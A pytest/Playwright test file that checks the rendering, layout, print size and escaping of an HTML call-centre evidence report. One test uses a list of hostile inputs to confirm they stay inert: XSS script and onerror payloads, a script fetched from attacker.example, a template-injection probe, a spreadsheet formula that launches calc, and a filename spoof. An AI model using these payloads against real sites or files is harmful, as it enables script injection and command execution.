"""The page of ``evidence report`` in a real browser, at a desk, on a telephone and on paper."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from callcentre_disclosure.evidence.report.figures import figures
from callcentre_disclosure.evidence.report.page import page
from callcentre_disclosure.evidence.report.words import Words
from callcentre_disclosure.evidence.sqlite import SqliteStore
from tests.chromium import browser
from tests.unit.evidence.report.conftest import row
from tests.unit.evidence.report.days_on_record import Row, fill, records

AT = datetime(2026, 11, 23, 9, 0, tzinfo=timezone.utc)
WIDTHS = {"desk": (1280, 800), "telephone": (390, 844)}
PAYLOADS = (
    "<script>document.title='taken'</script>",
    '"><img src=x onerror="document.title=\'taken\'">',
    "</style><script src=//attacker.example/x.js></script>",
    "{{ 7 * 7 }}",
    "=cmd|' /C calc'!A1",
    "a\x1b[31m\u202egnp.exe",
    "queue-" * 300,
    "x" * 2000,
)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as running:
        yield running


@dataclass
class Seen:
    """A page as a browser shows it, and what it asked for and complained of meanwhile."""

    page: Page
    requests: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def overflow(self) -> int:
        """By how many pixels the page is wider than the screen."""
        width = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
        return int(self.page.evaluate(width))


class Show:
    """Makes the report of some records and opens it."""

    def __init__(self, chromium: Browser, folder: Path) -> None:
        self._chromium = chromium
        self._folder = folder

    def __call__(self, rows: list[Row], language: str, width: int, height: int) -> Seen:
        store = SqliteStore(self._folder / "evidence.sqlite")
        fill(Path(store.file), rows)
        found = figures(store.read, None, None, "FR")
        store.close()
        file = self._folder / "report.html"
        file.write_text(page(found, Words(language), AT), encoding="utf-8")
        seen = Seen(self._chromium.new_page(viewport={"width": width, "height": height}))
        seen.page.on("request", lambda request: seen.requests.append(request.url))
        seen.page.on("console", lambda message: seen.complaints.append(message.text))
        seen.page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        seen.page.goto(file.as_uri())
        return seen


@pytest.fixture
def show(chromium: Browser, tmp_path: Path) -> Iterator[Show]:
    yield Show(chromium, tmp_path)
    for context in chromium.contexts:
        context.close()


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("place", WIDTHS)
def test_who_opens_it_sees_how_many_were_not_told_and_why(
    show: Show, language: str, place: str
) -> None:
    width, height = WIDTHS[place]
    seen = show(list(records(date(2026, 11, 1), 20, 1500)), language, width, height)
    assert [url.partition(":")[0] for url in seen.requests] == ["file"], "itself, nothing else"
    assert seen.complaints == []
    assert seen.overflow() == 0
    headline = seen.page.locator("#headline strong")
    for part in (headline, seen.page.locator("#why li").first):
        box = part.bounding_box()
        assert box, "it is shown"
        assert box["y"] + box["height"] < height, "in the first screen"
    assert int(headline.inner_text()) > 0
    why = seen.page.locator("#why").inner_text()
    assert ("Maroc" if language == "fr" else "Morocco") in why
    assert "casablanca" in why
    size = headline.evaluate("element => parseFloat(getComputedStyle(element).fontSize)")
    others = seen.page.evaluate(
        "Math.max(...[...document.querySelectorAll('body *')]"
        ".filter(element => !element.closest('#headline strong'))"
        ".map(element => parseFloat(getComputedStyle(element).fontSize)))"
    )
    assert size > others, "nothing is larger"


@pytest.mark.parametrize("place", WIDTHS)
def test_plots_can_be_read_at_every_width(show: Show, place: str) -> None:
    seen = show(list(records(date(2026, 11, 1), 20, 1500)), "fr", *WIDTHS[place])
    plots = seen.page.locator(".plot svg:visible")
    assert plots.count() == 4, "days, countries, waits, announcements cut"
    for plot in plots.all():
        assert plot.get_attribute("aria-label")
        for text in plot.locator("text").all():
            box = text.bounding_box()
            if text.text_content() and box:
                assert box["height"] > 11, "letters of a size that can be read"
        outside = plot.evaluate(
            """svg => { const whole = svg.getBoundingClientRect();
                return [...svg.querySelectorAll("text")].filter(text => {
                    const box = text.getBoundingClientRect();
                    return box.left < whole.left - 1 || box.right > whole.right + 1;
                }).map(text => text.textContent); }"""
        )
        assert outside == [], "no text is cut off"


def test_it_fits_on_paper(show: Show) -> None:
    seen = show(list(records(date(2026, 11, 1), 20, 1500)), "fr", 1280, 800)
    seen.page.emulate_media(media="print")
    seen.page.set_viewport_size({"width": 680, "height": 1000})  # A4 less its margins, in pixels
    assert seen.overflow() == 0
    paper = seen.page.pdf(prefer_css_page_size=True)
    boxes = set(re.findall(rb"/MediaBox \[0 0 ([\d.]+) ([\d.]+)\]", paper))
    assert {tuple(round(float(side)) for side in box) for box in boxes} == {(595, 842)}, "A4"


@pytest.mark.parametrize("place", WIDTHS)
def test_names_are_names_and_nothing_else(show: Show, place: str) -> None:
    rows = [
        row(
            call=f"{number}",
            queue=payload,
            site=payload,
            profile=payload,
            route=payload,
            countries=payload if number < 3 else "ZZ",
            outcome="NOT_DISCLOSED",
            cause=f"agent {payload} is not in the configuration",
        )
        for number, payload in enumerate(PAYLOADS)
    ]
    seen = show(rows, "en", *WIDTHS[place])
    assert len(seen.requests) == 1
    assert seen.complaints == []
    assert "taken" not in seen.page.title()
    assert seen.page.locator("script, img, iframe, link").count() == 0
    assert "{{ 7 * 7 }}" in seen.page.locator("#queues + table").inner_text()
    assert seen.overflow() == 0


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("calls", [0, 1])
def test_no_call_and_one_call_are_reports_too(show: Show, language: str, calls: int) -> None:
    seen = show([row()] * calls, language, *WIDTHS["telephone"])
    said = seen.page.locator("#headline").inner_text()
    nothing = {"fr": "Aucun appel dans cette période", "en": "No call in this period"}[language]
    assert (nothing in said) == (calls == 0)
    assert seen.complaints == []
    assert seen.overflow() == 0
